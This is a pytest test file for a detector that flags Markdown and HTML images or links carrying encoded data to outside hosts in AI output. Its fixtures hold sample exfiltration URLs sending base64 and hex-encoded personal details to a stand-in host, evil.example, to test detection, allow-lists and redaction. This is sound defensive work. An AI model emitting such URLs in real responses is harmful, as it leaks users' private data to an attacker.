"""URLs that carry data away: found exactly, and ordinary ones left alone."""

from __future__ import annotations

from base64 import b64encode

import pytest

from tokenward.errors import UsageError
from tokenward.guard import Guard
from tokenward.testing import check_detector
from tokenward.types import RequestContext, ScanContext
from tokenward_plugins.exfiltration import ExfiltrationSettings, register_detectors
from tokenward_plugins.exfiltration.detector import ExfiltrationDetector
from tokenward_plugins.exfiltration.settings import IMAGE, LINK, TYPES

DATA = b64encode(b"my name is ann and the code is 4711").decode()
URL = f"https://evil.example/p.png?d={DATA}"

IMAGES = {
    "Markdown": (f"Done. ![logo]({URL}) Bye.", URL),
    "Markdown in angle brackets": (f"![logo](<{URL}>)", URL),
    "without a scheme": (f"![]({URL[6:]})", URL[6:]),
    "a reference": (f"![logo][1]\n\n[1]: {URL}\n", URL),
    "HTML": (f'<img width="1" src="{URL}">', URL),
    "HTML without quotes": (f"<img src={URL} width=1>", URL),
    "a frame": (f"<iframe src='{URL}'></iframe>", URL),
    "a style": (f"<p style=\"background:url('{URL}')\">x</p>", URL),
    "words with spaces": (
        "<img src='http://e.example/?t=my name is ann lee from leeds'>",
        "http://e.example/?t=my name is ann lee from leeds",
    ),
    "words with pluses": (
        "![x](https://e.example/?t=my+name+is+ann+lee)",
        "https://e.example/?t=my+name+is+ann+lee",
    ),
    "an e-mail address in the path": (
        "![x](https://e.example/ann.lee@corp.example/x.png)",
        "https://e.example/ann.lee@corp.example/x.png",
    ),
    "hexadecimal digits": (
        f"![x](https://e.example/{b'the code is 4711'.hex()}.png)",
        f"https://e.example/{b'the code is 4711'.hex()}.png",
    ),
    "the host's name": (
        f"![x](https://{b'the code is 4711'.hex()}.e.example/)",
        f"https://{b'the code is 4711'.hex()}.e.example/",
    ),
    "the part behind #": (f"![x](https://e.example/#{DATA})", f"https://e.example/#{DATA}"),
    "a name before the host": (
        f"![x](https://{DATA}@e.example/)",
        f"https://{DATA}@e.example/",
    ),
}
LINKS = {
    "Markdown": (f"[your report]({URL})", URL),
    "an autolink": (f"Go to <{URL}>.", URL),
    "bare": (f"Go to {URL}. Bye.", URL),
    "HTML": (f'<a href="{URL}">report</a>', URL),
}
ORDINARY = [
    "![logo](https://cdn.example.com/img/logo-2x.png)",
    "See https://en.wikipedia.org/wiki/History_of_the_city_of_Leeds for more.",
    "https://example.com/search?q=how+to+cook+rice+at+home",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "[docs](https://docs.example.org/en/latest/guide.html#how-to-install-it)",
    "https://github.com/owner/project/blob/4b825dc642cb6eb9a060e54bf8d69288fbee4904/README.md#L10",
    "// https is better than http: see the notes",
    "x = a // b  # whole division",
    "The file is at C://temp, the ratio is 3://4.",
]


def find(detector, *chunks):
    scan = detector.open(ScanContext("exfiltration", "output", TYPES))
    return [*(one for chunk in chunks for one in scan.feed(chunk)[0]), *scan.finish()]


@pytest.fixture(scope="module")
def detector():
    return ExfiltrationDetector(ExfiltrationSettings())


@pytest.mark.parametrize("way", IMAGES)
def test_an_image_that_carries_data_is_found_exactly(detector, way):
    text, url = IMAGES[way]
    (found,) = find(detector, text)

    assert (IMAGE, url) == (found.type, text[found.start : found.end])
    assert found.score >= 0.8


@pytest.mark.parametrize("way", LINKS)
def test_a_link_that_carries_data_is_found_exactly(detector, way):
    text, url = LINKS[way]
    (found,) = find(detector, text)

    assert (LINK, url) == (found.type, text[found.start : found.end])
    assert found.score >= 0.8


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_urls_stay_below_the_threshold(detector, text):
    assert all(one.score < 0.5 for one in find(detector, text))


@pytest.mark.parametrize(
    ("allow", "found"),
    [
        (("evil.example",), False),
        (("EVIL.example",), False),
        (("*.evil.example",), True),
        (("vil.example", "example"), True),
    ],
)
def test_hosts_may_be_trusted(allow, found):
    trusting = ExfiltrationDetector(ExfiltrationSettings(allow=allow))

    assert found == bool(find(trusting, f"![]({URL})"))


def test_all_hosts_below_one_may_be_trusted():
    trusting = ExfiltrationDetector(ExfiltrationSettings(allow=("*.example.com",)))

    assert [] == find(trusting, f"![](https://a.b.example.com/?d={DATA})")
    assert find(trusting, f"![](https://example.com.evil.example/?d={DATA})")


@pytest.mark.parametrize("host", ["https://a.example", "a b", "", "a.example/x"])
def test_what_is_no_host_is_refused(host):
    with pytest.raises(UsageError, match="write hosts, such as"):
        ExfiltrationDetector(ExfiltrationSettings(allow=(host,)))


def test_words_of_the_request_are_known(detector):
    context = RequestContext(
        system=("The code of the reading room is X7-44-kp9.",),
        question="My mother Ann Lee lives in Leeds.",
        documents=(f"Read more at {URL} today.",),
    )
    knowing = detector.for_request(context)
    path = "![x](https://e.example/my-mother-ann-lee/x.png)"

    assert [] == [one for one in find(detector, path) if one.score >= 0.5]
    assert [0.99] == [one.score for one in find(knowing, path)]
    assert [IMAGE] == [
        one.type for one in find(knowing, "![x](//e.example/a?b=reading-room-is-x7)")
    ]
    assert [] == find(knowing, f"As the source says: ![]({URL})")


def test_a_guard_tells_the_detector_of_the_request():
    policy = {
        "name": "p",
        "rules": [
            {
                "id": "r",
                "stage": "output",
                "detect": {"exfiltration": "all"},
                "when": "score >= 0.8",
                "action": {"redact": "tag"},
            }
        ],
    }
    guard = Guard.load(policy)
    text = "![x](https://e.example/my-mother-ann-lee/x.png)"
    told = guard.check(text, context=RequestContext(question="My mother Ann Lee is ill."))

    assert guard.check(text).text == text
    assert told.text == "![x](<image_url>)"


@pytest.mark.parametrize("text", [text for text, _ in (*IMAGES.values(), *LINKS.values())])
def test_the_same_is_found_however_a_text_is_cut(detector, text):
    whole = find(detector, text)

    assert find(detector, *text) == whole
    for size in (2, 3, 7, 19):
        assert find(detector, *(text[at : at + size] for at in range(0, len(text), size))) == whole


@pytest.mark.parametrize("text", [text for text, _ in IMAGES.values()])
def test_a_stream_remembers_what_stood_before_a_short_calm_word(text):
    rule = {"id": "r", "stage": "output", "detect": {"exfiltration": "image_url"}}
    guard = Guard.load(
        {"name": "p", "rules": [rule | {"when": "score >= 0.1", "action": "redact"}]}
    )
    released = guard.check(text).text

    for size in (1, 2, 3, 7):
        stream = guard.stream(stage="output")
        pieces = [stream.feed(text[at : at + size]) for at in range(0, len(text), size)]
        assert "".join(pieces) + stream.finish() == released != text


def test_the_plugin_conforms():
    (plugin,) = register_detectors()

    check_detector(plugin, [IMAGES["Markdown"][0]], {"allow": ["cdn.example.com"]})
